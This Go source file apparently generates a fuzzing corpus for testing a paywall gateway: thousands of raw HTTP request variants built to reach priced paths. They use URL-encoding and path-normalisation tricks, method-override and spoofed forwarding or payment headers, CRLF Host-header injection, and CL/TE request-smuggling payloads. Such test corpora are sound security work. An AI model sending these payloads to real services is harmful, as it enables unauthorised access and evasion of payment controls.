package bypass

import (
	"fmt"
	"slices"
	"strings"
)

// variant is one request as bytes, and the method by which its answer is read.
type variant struct{ method, raw string }

// request writes one out. Lines are added as they are.
func request(method, target, host string, lines ...string) variant {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", method, target, host)
	body := ""
	for _, l := range lines {
		if after, ok := strings.CutPrefix(l, "\n"); ok {
			body = after
			fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
			continue
		}
		b.WriteString(l + "\r\n")
	}
	b.WriteString("\r\n" + body)
	return variant{method, b.String()}
}

// wanted are the targets that are spelled in every way.
func wanted() []string {
	seen := map[string]bool{}
	for resource := range priced {
		_, p, _ := strings.Cut(resource, " ")
		seen[p] = true
	}
	var all []string
	for p := range seen {
		all = append(all, p)
	}
	slices.Sort(all)
	return all
}

var slashes = []string{
	"//", "///", "/./", "/x/../", "/.//", "/%2e/", "/%2E/", "/x/%2e%2e/", "/x/.%2e/", "/x/%2e./", `\`, `/\`, "%2f", "%2F", "/%2f",
	"%5c", "%5C", "/%5c", "%252f", "%255c", "%25252f", "/;a/", ";a/", ";/", "%3ba/", "%253ba/", "/.;/", "/x/..;/", "/x/..%3b/",
	"/x/%252e%252e/", "/x%252f..%252f", "/%252e/", "/%00/", "/%09/", "/%20/", "%c0%af", "%25c0%25af", "%e0%80%af", "／", "%u002f", "%25u002f", "%ef%bc%8f",
}

var suffixes = []string{
	"/", "//", "///", "/.", "/./", "/..", "/x/..", "/x/../", ".", "..", "...", "./", "/%2e", "%2e", "%2E", "%252e", "%252e/", "%20", "%20%20", "%20/", "%2520", ".%20",
	"%20.", "+", "%09", "%0a", "%0d%0a", "%00", "%00.txt", "%2500", "%2500x", ";", ";x", ";x=y", ";x=y;z", "%3b", "%3Bx", "%3Bx=y", "%253b", "%253bx", "?", "??", "?x=1", "?/",
	"?_method=DELETE", "?_METHOD=DELETE", "?%5fmethod=DELETE", "?a=b&_method=delete", "?;_method=DELETE", "?a=/../..", "#", "#x", "%23", "%2523", "%3f", "%3Fx=1", "%253f",
	".json", ".html", "~", "::$DATA", "%3a%3a$DATA", "%ff", "%fe", "%c0%80", "%e2%80%8b", "%E2%80%8B", "%", "%2", "%zz", "%u0020", "\\", "%5c", "%5C", "%255c", "/;", "/;x", "/.;", "/%3b",
}

var prefixes = []string{
	"/", "//", "/.", "/./", "/%2e", "/x/..", "/x/%2e%2e", "/x/.%2e", "/x/%252e%252e", "/..", "/../..", "/%2e%2e", "/..;", "/.;", "/;", "/;x", "/%3b", "/%253b", `\`, `/\`,
	"/%5c", "/%2f", "/%252f", "/%20", "/%00", "/vault/..", "/open/..", "/shop/..", "/shop/%2e%2e", "/shop/..%2f..", "/shop/x%252f..%252f..", "/open/doc/..%252f..",
	"http://" + realm, "HTTP://" + realm, "https://" + realm, "http://" + realm + ":80", "http://" + strings.ToUpper(realm), "http://evil.example", "http://user@" + realm,
	"http://" + realm + "/", "http://" + realm + "/.", "http:", "http:/", "ftp://" + realm, "//" + realm, "@" + realm, "*", "x",
}

// spellings are a path in every way that somebody might read as it.
func spellings(p string) []string {
	out := []string{p, strings.ToUpper(p), strings.ToLower(p), strings.Title(p)} //nolint:staticcheck // ASCII paths only
	escape := func(format string, c byte) string { return fmt.Sprintf(format, c) }
	var all, twice strings.Builder
	for i := range len(p) {
		c := p[i]
		before, after := p[:i], p[i+1:]
		if c == '/' {
			all.WriteByte(c)
			twice.WriteByte(c)
			for _, s := range slashes {
				out = append(out, before+s+after)
			}
			continue
		}
		all.WriteString(escape("%%%02x", c))
		twice.WriteString(escape("%%25%02x", c))
		for _, f := range []string{"%%%02x", "%%%02X", "%%25%02x", "%%2525%02x", "%%u00%02x", "%%25u00%02x", "%%%%32%%35%02x"} {
			out = append(out, before+escape(f, c)+after)
		}
		if 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' {
			out = append(out, before+string(c^0x20)+after, before+escape("%%%02x", c^0x20)+after, before+escape("%%25%02x", c^0x20)+after)
		}
		switch c {
		case 's':
			out = append(out, before+"%c5%bf"+after, before+"ſ"+after)
		case 'k':
			out = append(out, before+"%e2%84%aa"+after)
		case 'i', 'I':
			out = append(out, before+"%c4%b0"+after, before+"%c4%b1"+after)
		}
	}
	out = append(out, all.String(), twice.String(), "%2f"+p[1:])
	for _, s := range suffixes {
		out = append(out, p+s, strings.ToUpper(p)+s, twice.String()+s)
	}
	for _, s := range prefixes {
		out = append(out, s+p, s+strings.ToUpper(p))
	}
	for _, s := range suffixes {
		for _, f := range []string{"/x/%252e%252e", "//", "/;x"} {
			out = append(out, f+p+s)
		}
	}
	return out
}

var methods = []string{"HEAD", "POST", "PUT", "DELETE", "OPTIONS", "get", "Get", "TRACE", "PROPFIND", "GETS"}

// headerSets are lines that say who is meant, what is meant, or that it is paid.
func headerSets(p string) [][]string {
	return append([][]string{
		{"X-Original-URL: " + p},
		{"X-Rewrite-URL: " + p},
		{"X_Original_URL: " + p},
		{"X-Original-Url: " + p, "Connection: X-Original-URL"},
		{"X-Forwarded-Uri: " + p},
		{"X-Forwarded-Path: " + p, "X-Forwarded-Prefix: " + p},
		{"x-original-url: " + p, "X-Original-URL: /x"},
		{"X-HTTP-Method-Override: GET"},
		{"X-HTTP-Method: GET"},
		{"X-Method-Override: GET"},
		{"X-HTTP-Method-Override: DELETE"},
		{"X_HTTP_METHOD_OVERRIDE: DELETE"},
		{"X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1", "Forwarded: for=127.0.0.1"},
		{"X-Forwarded-Host: localhost", "X-Forwarded-Proto: https"},
		{"Via-Route: exact"},
		{"Paywall-Payment-Id: pay_1", "Payment-Receipt: eyJ9", "Paywall-Receipt: x"},
		{"Authorization: Payment x"},
		{"Authorization: Bearer x"},
		{"Authorization: payment"},
		{"Payment-Authorization: Payment e30"},
		{"If-None-Match: *"},
		{"Range: bytes=0-"},
		{"If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT"},
		{"Expect: 100-continue"},
		{"Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__", "Connection: Upgrade, HTTP2-Settings"},
		{"Upgrade: websocket", "Connection: Upgrade"},
		{"Connection: Authorization, Host, Via-Route"},
		{"Transfer-Encoding: identity"},
		{"Content-Type: application/x-www-form-urlencoded", "\n_method=DELETE"},
		{"Content-Type: application/x-www-form-urlencoded", "\na=1&%5Fmethod=DELETE"},
		{"Content-Type: multipart/form-data; boundary=b", "\n--b\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--b--\r\n"},
		{"Accept: text/html"},
		{"Origin: https://evil.example", "Access-Control-Request-Method: GET"},
		{"Cache-Control: only-if-cached"},
	}, coinSets()...)
}

var hosts = []string{
	realm + ":80", realm + ":443", realm + ".", strings.ToUpper(realm), "user@" + realm, "evil.example", "", realm + ":", realm + ":99999", "[::1]", "localhost", realm + "/",
	realm + "\r\nHost: evil.example", "evil.example\r\nHost: " + realm, " " + realm, realm + " ", realm + "\t", realm + ", evil.example", realm + "\r\n X: y",
}

// corpus is every variant, without doubles, in a fixed order.
func corpus() []variant {
	var all []variant
	seen := map[string]bool{}
	add := func(vs ...variant) {
		for _, v := range vs {
			if !seen[v.raw] {
				seen[v.raw] = true
				all = append(all, v)
			}
		}
	}
	for _, p := range wanted() {
		every := spellings(p)
		for i, s := range every {
			add(request("GET", s, realm))
			// Each other method and set of lines meets the plain path, and by turns the spellings.
			add(request(methods[i%len(methods)], s, realm), request(methods[(i/3+5)%len(methods)], s, realm))
			sets := headerSets(p)
			add(request([]string{"GET", "POST", "HEAD"}[i%3], s, realm, sets[i%len(sets)]...))
		}
		for _, lines := range headerSets(p) {
			for _, m := range append([]string{"GET"}, methods...) {
				for _, from := range []string{p, "/", "/free/page", "/shop/tin", "/open/doc"} {
					add(request(m, from, realm, lines...))
				}
			}
		}
		for _, h := range hosts {
			for _, form := range []string{p, "http://" + realm + p, "http://evil.example" + p, "/free/page", "*"} {
				add(request("GET", form, h), request("OPTIONS", form, h))
			}
		}
		for _, v := range smuggled(p) {
			add(v)
		}
	}
	return all
}

// smuggled hides a request for a priced path behind a free one, in the ways in
// which two readers of one byte stream have come to disagree.
func smuggled(p string) []variant {
	hidden := "GET " + p + " HTTP/1.1\r\nHost: " + realm + "\r\n\r\n"
	chunked := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(hidden), hidden)
	head := "POST /free/page HTTP/1.1\r\nHost: " + realm + "\r\n"
	raws := []string{
		head + fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", len(hidden)+5) + hidden,
		head + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked,
		head + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + hidden,
		head + fmt.Sprintf("Content-Length: %d\r\n\r\n", len(hidden)) + hidden,
		head + fmt.Sprintf("Content-Length: 0\r\nContent-Length: %d\r\n\r\n", len(hidden)) + hidden,
		head + fmt.Sprintf("Content-Length: %d, 0\r\n\r\n", len(hidden)) + hidden,
		head + fmt.Sprintf("Content-Length: +%d\r\n\r\n", len(hidden)) + hidden,
		head + "Content-Length : 0\r\n\r\n" + hidden,
		head + fmt.Sprintf("Content-Length:\x0b%d\r\n\r\n", len(hidden)) + hidden,
		"GET /free/page HTTP/1.1\r\nHost: " + realm + fmt.Sprintf("\r\nContent-Length: %d\r\n\r\n", len(hidden)) + hidden,
		"GET /free/page HTTP/1.0\r\nHost: " + realm + "\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n" + chunked,
		"GET /free/page HTTP/1.1\r\n Host: " + realm + "\r\n\r\n" + hidden,
		"GET /free/page HTTP/1.1\r\nHost: " + realm + "\r\nX: a\r\n b\r\n\r\n" + hidden,
		"GET /free/page HTTP/1.1\r\nHost: " + realm + "\r\nX: a\rGET " + p + " HTTP/1.1\r\n\r\n",
		"GET /free/page HTTP/1.1\nHost: " + realm + "\n\n" + strings.ReplaceAll(hidden, "\r\n", "\n"),
		"GET /free/page HTTP/1.1\r\nHost: " + realm + "\n\nGET " + p + " HTTP/1.1\nHost: " + realm + "\n\n",
		"GET /free/page\r\nHost: " + realm + "\r\n\r\n" + hidden,
		"GET /free/page HTTP/1.1 \r\nHost: " + realm + "\r\n\r\n",
		"GET  " + p + " HTTP/1.1\r\nHost: " + realm + "\r\n\r\n", "GET\t" + p + "\tHTTP/1.1\r\nHost: " + realm + "\r\n\r\n",
		"GET /free/page " + p + " HTTP/1.1\r\nHost: " + realm + "\r\n\r\n", "GET /free/page%20HTTP/1.1%0d%0aX:%20" + p + " HTTP/1.1\r\nHost: " + realm + "\r\n\r\n",
		"\r\n\r\nGET " + p + " HTTP/1.1\r\nHost: " + realm + "\r\n\r\n", "GET " + p + " HTTP/2.0\r\nHost: " + realm + "\r\n\r\n", "GET " + p + " HTTP/0.9\r\n\r\n",
		"GET " + p + "\r\n\r\n", "CONNECT " + realm + ":80 HTTP/1.1\r\nHost: " + realm + ":80\r\n\r\n" + hidden, "CONNECT " + p + " HTTP/1.1\r\nHost: " + realm + "\r\n\r\n",
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + hidden,
		hidden + hidden, "GET /free/page HTTP/1.1\r\nHost: " + realm + "\r\n\r\n" + hidden + "GET /free/page HTTP/1.1\r\nHost: " + realm + "\r\n\r\n",
	}
	for _, te := range []string{
		"chunked, chunked", "chunked, identity", "identity, chunked", "xchunked", " chunked", "\tchunked", "chunked\t", "Chunked", "\"chunked\"", "chunked;q=1", "gzip, chunked", "chu\x00nked", "\x0bchunked", "chunked\r\nTransfer-Encoding: x", "x\r\nTransfer-Encoding: chunked",
	} {
		raws = append(raws, head+"Transfer-Encoding: "+te+"\r\n\r\n"+chunked, head+"Transfer-Encoding: "+te+"\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"+hidden)
	}
	for _, name := range []string{"Transfer-Encoding ", "Transfer-Encoding\t", "Transfer_Encoding", "\x00Transfer-Encoding", "X: y\nTransfer-Encoding", "transfer-encoding"} {
		raws = append(raws, head+name+": chunked\r\n\r\n"+chunked, head+name+": chunked\r\nContent-Length: 3\r\n\r\n"+chunked)
	}
	for _, size := range []string{"0;a=\"\r\n\"", "0;\x00", "0x0", "-0", " 0", "00000000000000000000", "0\n", "ffffffffffffffff1", "1;\nGET"} {
		raws = append(raws, head+"Transfer-Encoding: chunked\r\n\r\n"+size+"\r\n\r\n"+hidden)
	}
	raws = append(raws, head+"Transfer-Encoding: chunked\r\nTrailer: X-Original-URL\r\n\r\n0\r\nX-Original-URL: "+p+"\r\nAuthorization: Payment x\r\n\r\n")
	vs := make([]variant, len(raws))
	for i, raw := range raws {
		vs[i] = variant{raw: raw}
	}
	return vs
}
